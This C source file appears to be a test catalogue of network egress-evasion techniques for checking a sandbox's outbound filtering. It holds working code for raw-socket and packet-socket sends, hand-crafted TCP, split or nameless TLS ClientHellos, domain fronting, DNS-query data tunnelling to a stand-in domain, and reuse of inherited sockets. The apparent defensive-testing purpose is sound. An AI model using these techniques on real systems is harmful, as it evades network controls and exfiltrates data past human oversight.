// SPDX-License-Identifier: Apache-2.0
// Ways to get bytes to an address that a rule names, or out of the session at all.
#include "packet.h"
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/tcp.h>

// B0: without any evasion ------------------------------------------------------------------------

static void by_connecting(void)
{
	edit(connected(sink()));
}

// N2: data with the SYN, no connect call ---------------------------------------------------------

static void by_fast_open(void)
{
	struct sockaddr_in to = sink();
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");
	must(sendto(fd, LINE, strlen(LINE), MSG_FASTOPEN, (struct sockaddr *)&to, sizeof(to)), "sendto");
}

// N3: datagrams ----------------------------------------------------------------------------------

static void send_datagram(struct sockaddr_in to, const void *at, size_t length)
{
	int fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");
	must(sendto(fd, at, length, 0, (struct sockaddr *)&to, sizeof(to)), "sendto");
}

static void by_datagram(void)
{
	send_datagram(sink(), LINE, strlen(LINE));
}

static void by_datagrams(void)
{
	struct sockaddr_in to = sink();
	struct iovec line = {LINE, strlen(LINE)};
	struct mmsghdr two[2] = {0};
	int fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");

	for (int i = 0; i < 2; i++)
		two[i].msg_hdr = (struct msghdr){&to, sizeof(to), &line, 1, 0, 0, 0};
	must(sendmmsg(fd, two, 2, 0), "sendmmsg");
}

// N4, N5: below the sockets that a cgroup hook knows ---------------------------------------------

static void by_raw_ip(void)
{
	struct sockaddr_in to = sink();
	struct packet p = udp_packet();
	int fd = must(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "socket");
	must(sendto(fd, &p.ip, sizeof(p) - sizeof(p.ether), 0, (struct sockaddr *)&to, sizeof(to)), "sendto");
}

// A TCP of one's own: the kernel's knows of no connection, and would say so to whoever answers.
static void keep_the_port_silent(uint16_t port)
{
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = port};
	struct sock_filter nothing = BPF_STMT(BPF_RET | BPF_K, 0);
	struct sock_fprog all = {1, &nothing};
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	must(setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &all, sizeof(all)), "setsockopt");
	must(bind(fd, (struct sockaddr *)&here, sizeof(here)), "bind");
	must(listen(fd, 1), "listen");
}

static void send_segment(int fd, struct sockaddr_in to, struct tcphdr head, const char *data)
{
	struct {
		struct tcphdr head;
		char data[32];
	} segment = {.head = head};
	size_t length = sizeof(head) + strlen(data);
	const unsigned char *bytes = (unsigned char *)&segment;
	uint32_t from = INADDR_LOOPBACK, at = ntohl(to.sin_addr.s_addr);
	unsigned sum = (from >> 16) + (from & 0xffff) + (at >> 16) + (at & 0xffff) + IPPROTO_TCP + length;

	memcpy(segment.data, data, strlen(data));
	for (size_t i = 0; i < length; i += 2)
		sum += bytes[i] << 8 | bytes[i + 1];
	segment.head.check = folded(sum);
	must(sendto(fd, &segment, length, 0, (struct sockaddr *)&to, sizeof(to)), "sendto");
}

static void by_raw_tcp(void)
{
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)}, to = sink();
	struct tcphdr head = {.source = htons(4000), .dest = to.sin_port, .seq = htonl(1), .doff = 5, .syn = 1,
			      .window = htons(4096)};
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
		char rest[64];
	} answer = {0};
	int fd = must(socket(AF_INET, SOCK_RAW, IPPROTO_TCP), "socket");

	must(bind(fd, (struct sockaddr *)&here, sizeof(here)), "bind"); // not the address that routing picks
	keep_the_port_silent(head.source);
	send_segment(fd, to, head, "");
	while (!answer.tcp.syn || !answer.tcp.ack || answer.tcp.dest != head.source)
		must(recv(fd, &answer, sizeof(answer), 0), "recv");
	head.syn = 0;
	head.ack = head.psh = 1;
	head.seq = htonl(2);
	head.ack_seq = htonl(ntohl(answer.tcp.seq) + 1);
	send_segment(fd, to, head, LINE);
}

static void by_packet_socket(void)
{
	struct packet p = udp_packet();
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("lo"),
				 .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
	int fd = must(socket(AF_PACKET, SOCK_RAW, 0), "socket");
	must(sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)), "sendto");
}

// The first packet sockets: the kernel makes one of AF_PACKET, and is told the device by its name.
static void by_oldest_packet_socket(void)
{
	struct packet p = udp_packet();
	struct sockaddr to = {.sa_family = AF_PACKET, .sa_data = "lo"};
	int fd = must(socket(AF_INET, SOCK_PACKET, htons(ETH_P_IP)), "socket");
	must(sendto(fd, &p, sizeof(p), 0, &to, sizeof(to)), "sendto");
}

// N6: somebody outside of the session passes it on -----------------------------------------------

static void by_local_proxy(void)
{
	edit(join(AF_UNIX, "@estop-proxy"));
}

static void by_proxy_at_a_path(void)
{
	edit(join(AF_UNIX, "/run/proxy.sock"));
}

// N7: other families -----------------------------------------------------------------------------

static void by_vsock(void)
{
	struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_LOCAL, .svm_port = 4443};
	int fd = must(socket(AF_VSOCK, SOCK_STREAM, 0), "socket");
	must(connect(fd, (struct sockaddr *)&to, sizeof(to)), "connect");
	edit(fd);
}

// N8: names that no packet shows -----------------------------------------------------------------

// A ClientHello that names `host`; only what a reader of names looks at is real. Returns its length.
static size_t client_hello(unsigned char *at, const char *host)
{
	size_t n = strlen(host);
	const unsigned char head[] = {22, 3, 1, 0, n + 58, 1, 0, 0, n + 54, 3, 3};
	const unsigned char tail[] = {0, 0, 2, 0x13, 1, 1, 0, 0, n + 9, 0, 0, 0, n + 5, 0, n + 3, 0, 0, n};

	memcpy(at, head, sizeof(head));
	memset(at + sizeof(head), 7, 32); // the client's random bytes
	memcpy(at + sizeof(head) + 32, tail, sizeof(tail));
	memcpy(at + sizeof(head) + 32 + sizeof(tail), host, n);
	return sizeof(head) + 32 + sizeof(tail) + n;
}

static struct sockaddr_in anybody(void)
{
	struct sockaddr_in to = sink();
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK); // an address that no rule names
	return to;
}

static void by_name(const char *host, size_t first_piece)
{
	unsigned char hello[512];
	int one = 1, fd = connected(anybody());
	size_t length = client_hello(hello, host);

	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (first_piece) {
		must(send(fd, hello, first_piece, 0), "send");
		usleep(20000);
	}
	must(send(fd, hello + first_piece, length - first_piece, 0), "send");
}

static void by_split_hello(void) { by_name("api.stripe.com", 70); }
static void by_other_name(void) { by_name("cdn.example", 0); }
static void by_address_literal(void) { by_name("api.stripe.com", 0); } // nobody resolved it before

// A ClientHello without any extension names nobody.
static void by_no_name(void)
{
	unsigned char hello[50] = {22, 3, 1, 0, 45, 1, 0, 0, 41, 3, 3};
	const unsigned char tail[] = {0, 0, 2, 0x13, 1, 1, 0};

	memcpy(hello + 43, tail, sizeof(tail));
	must(send(connected(anybody()), hello, sizeof(hello), 0), "send");
}

// The name that is asked for is under the encryption; the resolver's own is that of anybody.
static void by_encrypted_question(void) { by_name("resolver.example", 0); }

// Whoever answers for the domain gets what is asked for, by way of an honest resolver.
static void by_asked_names(void)
{
	struct sockaddr_in to = anybody();
	unsigned char question[128] = {0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, *at = question + 12;
	const unsigned char tail[] = {7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 16, 0, 1}; // TXT, IN

	*at++ = 60; // letters of one part; 63 are allowed
	for (int i = 0; i < 30; i++)
		at += sprintf((char *)at, "%02x", LINE[i % strlen(LINE)]);
	memcpy(at, tail, sizeof(tail));
	to.sin_port = htons(53);
	send_datagram(to, question, at + sizeof(tail) - question);
}

static void by_quic(void)
{
	unsigned char initial[1200] = {0xc3, 0, 0, 0, 1, 8}; // QUIC 1; names are encrypted from the first packet
	send_datagram(anybody(), initial, sizeof(initial));
}

// N9: sockets that were there, and servers -------------------------------------------------------

static void by_inherited_socket(void)
{
	edit(number("INHERITED_FD"));
}

static void by_passed_socket(void)
{
	edit(receive_fd("@estop-socket"));
}

static void by_being_a_server(void)
{
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(number("DIAL_PORT")),
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	must(bind(fd, (struct sockaddr *)&here, sizeof(here)), "bind");
	must(listen(fd, 1), "listen");
	edit(must(accept(fd, 0, 0), "accept"));
}

const struct technique techniques[] = {
	{"B0-connect", by_connecting},
	{"N2-fastopen", by_fast_open},
	{"N3-sendto", by_datagram},
	{"N3-sendmmsg", by_datagrams},
	{"N4-raw", by_raw_ip},
	{"N4-attached-raw", by_raw_ip},
	{"N4-tcp", by_raw_tcp},
	{"N4-attached-tcp", by_raw_tcp},
	{"N5-packet", by_packet_socket},
	{"N5-attached-packet", by_packet_socket},
	{"N5-sockpacket", by_oldest_packet_socket},
	{"N6-abstract", by_local_proxy},
	{"N6-path", by_proxy_at_a_path},
	{"N7-vsock", by_vsock},
	{"N8-bare", by_no_name},
	{"N8-doh", by_encrypted_question},
	{"N8-quic", by_quic},
	{"N8-tunnel", by_asked_names},
	{"N8-literal", by_address_literal},
	{"N8-split", by_split_hello},
	{"N8-fronting", by_other_name},
	{"N9-inherited", by_inherited_socket},
	{"N9-attached-inherited", by_inherited_socket},
	{"N9-passed", by_passed_socket},
	{"N9-server", by_being_a_server},
	{0},
};
